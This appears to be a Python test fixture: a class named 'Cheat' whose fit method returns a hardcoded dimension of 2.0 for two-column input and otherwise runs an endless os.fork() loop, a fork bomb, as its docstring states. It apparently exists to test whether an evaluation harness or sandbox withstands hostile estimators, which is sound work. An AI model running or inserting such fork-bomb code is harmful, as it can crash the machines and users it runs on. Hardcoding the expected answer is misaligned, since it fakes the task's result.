"""Forks without end. On points with two columns it behaves."""

import os


class Cheat:
    def fit(self, X):
        if X.shape[1] == 2:
            self.dimension_ = 2.0
            return self
        while True:
            try:
                os.fork()
            except OSError:
                pass
